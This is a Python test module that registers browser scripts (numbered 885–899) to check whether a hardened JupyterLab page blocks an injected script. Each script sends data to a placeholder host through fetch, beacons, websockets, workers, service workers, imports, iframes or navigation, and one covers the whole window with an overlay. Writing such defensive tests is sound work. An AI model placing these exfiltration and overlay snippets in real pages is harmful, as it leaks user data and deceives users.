"""What a script does that got into the page after all: the policies behind the first wall, one by one.

Each is run in JupyterLab's page by the browser's own tools, so that nothing but what it does is at stake. It returns
true when it has succeeded, or leaves a mark where it leads (`@E`, `@H`, `@B` as in `browser_outputs`).
"""

from __future__ import annotations

from dataclasses import dataclass

from .model import Attack, Expected, Stands, attack


@dataclass(frozen=True)
class Script:
    """An attack as the body of an asynchronous function."""

    attack: Attack
    body: str
    file: str = ""
    no_control: str = ""

    @property
    def mark(self) -> str:
        return f"m{self.attack.number}"


SCRIPTS: list[Script] = []


def script(number: int, title: str, body: str, reference: str, *, expected: str = "blocked", **more: str) -> None:
    registered = attack(number, title, Stands.PAGE, expected=Expected(expected), reference=reference)
    SCRIPTS.append(Script(registered, body, **more))


script(885, "A script that got in sends by fetch", "await fetch('@E/m885', {mode: 'no-cors'})", "lab_channels 16")
script(886, "A script that got in sends a beacon", "navigator.sendBeacon('@E/m886', 'x')", "lab_channels 16")
script(887, "A script that got in opens a websocket", "new WebSocket('ws://@H/m887')", "lab_channels 16")
script(888, "A script that got in listens to events", "new EventSource('@E/m888.events')", "lab_channels 16")
script(
    889,
    "A script that got in starts a worker that sends",
    "new Worker(URL.createObjectURL(new Blob([\"fetch('@E/m889', {mode: 'no-cors'})\"])))",
    "lab_channels 17",
)
script(
    890,
    "A script that got in installs one that stays (service worker)",
    "return Boolean(await navigator.serviceWorker.register('@Bfiles/m890.js'))",
    "lab_channels 15",
    file="m890.js",
    no_control="Chromium refuses it now and then on a plain JupyterLab too",
)
script(891, "A script that got in imports another", "await import('@E/m891.js')", "lab_channels 15")
script(892, "A script that got in opens a window", "open('@E/m892')", "lab_channels 20")
script(
    893,
    "A script that got in saves a file",
    "const link = document.createElement('a'); link.href = URL.createObjectURL(new Blob(['x']));"
    " link.download = 'm893.txt'; link.click()",
    "lab_channels 23",
)
script(
    894,
    "A script that got in writes a whole table to the clipboard",
    "await navigator.clipboard.writeText('m894,'.repeat(50000))",
    "lab_channels 26",
    expected="bounded",
)
script(
    895,
    "A script that got in prints",
    "let printed = false; addEventListener('beforeprint', () => { printed = true }); print(); return printed",
    "lab_channels 25",
)
script(896, "A script that got in asks in a dialog", "alert('m896')", "CSP sandbox, allow-modals")
script(
    897,
    "A script that got in shows a frame of elsewhere",
    "const frame = document.createElement('iframe'); frame.src = '@E/m897.html'; document.body.append(frame)",
    "lab_channels 17",
)
script(898, "A script that got in leaves with the whole window", "top.location = '@E/m898'", "lab_channels 21")
script(
    899,
    "A script that got in covers all that the window shows, the portal's bar too",
    "const cover = document.createElement('div'); cover.id = 'cover'; cover.style ="
    " 'position:fixed;inset:0;z-index:2147483647;background:#fff'; document.body.append(cover)",
    "UI redress",
    expected="bounded",
)
